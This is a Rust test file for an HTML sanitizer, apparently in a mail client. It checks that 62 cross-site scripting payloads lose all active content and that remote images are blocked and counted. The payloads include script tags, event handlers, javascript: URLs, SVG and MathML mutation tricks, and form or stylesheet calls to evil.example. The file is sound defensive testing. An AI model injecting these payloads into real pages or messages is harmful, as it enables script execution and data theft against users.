//! S10: what is hostile goes, what is meant stays.

use super::{Sanitized, sanitize};

/// Attacks of known kinds: each is harmless after cleaning, alone and inside other elements.
const ATTACKS: [&str; 62] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\t=\talert(1)//",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img src=\"java\0script:alert(1)\">",
    "<img src=\" &#14; javascript:alert(1)\">",
    "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
    "<img src=data:text/html;base64,PHNjcmlwdD4=>",
    "<img srcset='javascript:alert(1) 1x'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<a href='https://a.example' ping='https://evil.example' target=_blank>x</a>",
    "<b onmouseover=alert(1)>x</b>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<div style=\"background:url(https://evil.example/p.gif)\">x</div>",
    "<div style=\"color:expression(alert(1))\">x</div>",
    "<div style=\"col\\6fr:red;behavior:url(x.htc)\">x</div>",
    "<div style=\"-moz-binding:url(//evil.example/x)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<video poster=javascript:alert(1)><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/x onerror=alert(1)>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<xml><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml><?xml version=1?><![CDATA[<script>alert(1)</script>]]>",
];

const ACTIVE: [&str; 29] = [
    "<script",
    "<svg",
    "<math",
    "<style",
    "<title",
    "<noscript",
    "<template",
    "<iframe",
    "<object",
    "<embed",
    "<applet",
    "<link",
    "<meta",
    "<base",
    "<form",
    "<input",
    "<button",
    "<video",
    "<audio",
    "<textarea",
    "<xml",
    "javascript:",
    "vbscript:",
    "data:",
    "blob:",
    "url(",
    "expression(",
    "position",
    "evil.example",
];

#[test]
fn nothing_active_is_left_of_known_attacks() {
    for attack in ATTACKS {
        for html in
            [attack.to_owned(), format!("<div><p>{attack}</p></div>"), format!("<table><tr><td>{attack}")]
        {
            let clean = sanitize(&html).html;
            // Text may say anything: what stands in tags is judged.
            let tags: Vec<&str> = clean.split('<').skip(1).filter_map(|it| it.split('>').next()).collect();
            let tags = format!("<{}", tags.join("<")).to_lowercase();
            assert!(!ACTIVE.iter().any(|it| tags.contains(it)), "{html} became {clean}");
            assert!(
                !tags.contains(" on") && !tags.contains("srcdoc") && !tags.contains("ping"),
                "{html} became {clean}"
            );
            assert_eq!(sanitize(&clean).html, clean, "cleaning twice changes nothing");
        }
    }
}

#[track_caller]
fn check(html: &str, clean: &str, blocked_remote_images: usize) {
    assert_eq!(sanitize(html), Sanitized { html: clean.to_owned(), blocked_remote_images });
}

/// R32
#[test]
fn remote_images_are_blocked_and_counted_and_own_ones_kept() {
    check("<img src=\"cid:logo@a\" alt=\"Logo\">", "<img src=\"cid:logo@a\" alt=\"Logo\">", 0);
    check(
        "<img src=\"https://a.example/p.gif\" alt=\"x\"><img src=//a.example/p.gif>",
        "<img alt=\"x\"><img>",
        2,
    );
    check("<a href=\"cid:x\">x</a>", "<a rel=\"noopener noreferrer nofollow\">x</a>", 0);
}

#[test]
fn looks_structure_and_links_stay() {
    check("<p style=\"color:red;position:fixed\">a</p>", "<p style=\"color:red\">a</p>", 0);
    check(
        "<table border=\"1\"><tbody><tr><td width=\"5\">a</td></tr></tbody></table>",
        "<table border=\"1\"><tbody><tr><td width=\"5\">a</td></tr></tbody></table>",
        0,
    );
    for href in ["https://a.example/?b=c", "mailto:a@b.example", "tel:+4930"] {
        let link = |rel: &str| format!("<a href=\"{href}\"{rel}>x</a>");
        check(&link(""), &link(" rel=\"noopener noreferrer nofollow\""), 0);
    }
}
